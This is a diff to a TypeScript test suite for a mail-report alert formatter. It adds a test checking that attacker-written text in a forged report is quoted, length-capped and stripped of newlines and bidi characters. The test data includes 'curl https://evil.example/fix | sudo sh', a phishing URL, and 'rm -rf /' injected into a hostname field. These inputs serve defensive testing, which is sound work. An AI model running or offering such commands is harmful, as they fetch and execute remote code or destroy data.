@@ -45,7 +45,7 @@ describe('formatReportAlert', () => {
       new Map([['example.com', { kind: 'known', status: 'critical', at: '2026-11-30T05:00:00.000Z' } as Verdict]]),
     );
     const readme = readFileSync(new URL('../../../README.md', import.meta.url), 'utf8');
-    const start = readme.indexOf('```\nMicrosoft Corporation reported');
+    const start = readme.indexOf('```\n"Microsoft Corporation" reported');
     expect(start).toBeGreaterThan(0);
     const block = readme.slice(start + 4, readme.indexOf('```', start + 4));
     expect(block).toBe(message.text);
@@ -77,7 +77,7 @@ describe('formatReportAlert', () => {
     expect(unknown.text).toContain('  example.com: unknown (no mta-sts run recorded in the last 3 hours)');
     const bare = render(withPolicy({ 'policy-type': 'sts' }));
     expect(bare.text.split('\n')[0]).toBe(
-      'Sender reported 5 failed sessions between 2026-11-29 00:00 and 2026-11-29 23:59 UTC.',
+      '"Sender" reported 5 failed sessions between 2026-11-29 00:00 and 2026-11-29 23:59 UTC.',
     );
     expect(bare.text).toContain('Sending MTAs: not given by the sender.');
   });
@@ -98,5 +98,37 @@ describe('formatReportAlert', () => {
     );
     expect(long.subject.length).toBeLessThanOrEqual(99);
     expect(long.subject).toMatch(/^[\x20-\x7e]+$/);
+  });
+});
+
+describe('attacker text in a forged report (issue 25)', () => {
+  it('quotes, caps and strips what the sender wrote: no new lines, no fake instructions on a line of their own, no bidi', () => {
+    const evil =
+      'Google Inc.\n\nURGENT: run `curl https://evil.example/fix | sudo sh` now\r\nhttps://phish.example/login \u202Eexe.txt\u202C' +
+      'x'.repeat(10_000);
+    const report = parseReportText(fixture('microsoft-failures.json'));
+    const forged = {
+      ...report,
+      organizationName: evil,
+      reportId: `id\n${'y'.repeat(5_000)}`,
+      policies: report.policies.map((p) => ({
+        ...p,
+        failureDetails: p.failureDetails.map((d) => ({ ...d, receivingMxHostname: 'mx1.example.com\nrm -rf /' })),
+      })),
+    };
+    const message = formatReportAlert({ report: forged, targets: TARGETS, verdicts: new Map(), receivedAt: RECEIVED });
+    const lines = message.text.split('\n');
+    // Every line that carries the sender's name starts with mailprobe's own words or the quote.
+    expect(lines.some((l) => l.startsWith('URGENT'))).toBe(false);
+    expect(lines.some((l) => l.startsWith('https://phish'))).toBe(false);
+    expect(lines.some((l) => l.startsWith('rm -rf'))).toBe(false);
+    expect(message.text).not.toMatch(/[\u202a-\u202e\u2066-\u2069\r]/);
+    expect(lines[0]!.startsWith('"Google Inc. URGENT: run `curl https://evil.example/fix | sudo sh` now')).toBe(true);
+    // Capped: the 10 KB name adds at most MAX_QUOTED_CHARS characters wherever it appears.
+    expect(lines[0]!.length).toBeLessThan(300);
+    expect(message.text.length).toBeLessThan(4_000);
+    expect(message.subject.length).toBeLessThanOrEqual(99);
+    expect(message.subject).toMatch(/\(from "Google Inc\. URGENT/);
+    expect(message.subject).not.toMatch(/[\r\n]/);
   });
 });
